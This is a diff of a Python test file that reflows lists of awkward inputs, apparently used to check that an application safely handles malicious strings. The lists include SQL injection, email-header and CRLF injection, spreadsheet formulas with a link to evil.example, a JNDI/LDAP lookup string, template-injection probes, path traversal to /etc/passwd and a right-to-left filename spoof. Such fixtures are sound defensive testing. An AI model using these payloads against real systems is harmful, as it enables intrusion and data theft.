@@ -20,11 +20,13 @@ MARKUP = [
 UNSTORABLE = ["\x00", "a\x00b", "\ud800", "\udfff tail", "\udc00\ud800"]
 INVISIBLE = [
     "", " ", "\t\r\n", "\x1b[31mred\x1b[0m", "\x7f\x80\x9f", "\u202egnp.exe", "\u2066\u2069", "\u2028\u2029",
-    "\u200b\u200d\u2060\ufeff", "👩\u200d👩\u200d👧\u200d👦" * 20, "🏳\ufe0f\u200d⚧", "e" + "\u0301" * 2_000, "\ufb2c" * 80,
+    "\u200b\u200d\u2060\ufeff", "👩\u200d👩\u200d👧\u200d👦" * 20, "🏳\ufe0f\u200d⚧",
+    "e" + "\u0301" * 2_000, "\ufb2c" * 80,
 ]  # fmt: skip
 CODE = [
     "a\nBcc: x@y.example", "a\r\nSubject: x\r\n\r\nbody", "a%0d%0aSet-Cookie: x=y", "=1+1", "+1", "-1", "@SUM(A1)",
-    '=HYPERLINK("http://evil.example","x")', "' OR 1=1 --", '"; DROP TABLE auth_user; --', "\\", "%s%n%x", "{0.__class__}",
+    '=HYPERLINK("http://evil.example","x")', "' OR 1=1 --", '"; DROP TABLE auth_user; --', "\\",
+    "%s%n%x", "{0.__class__}",
     "%(secret)s", "{{ 7*7 }}", "{% debug %}", "${jndi:ldap://evil.example}", "javascript:alert(1)",
     "../../etc/passwd", "..\\..\\x", "%2e%2e%2f", "CON", "/",
 ]  # fmt: skip
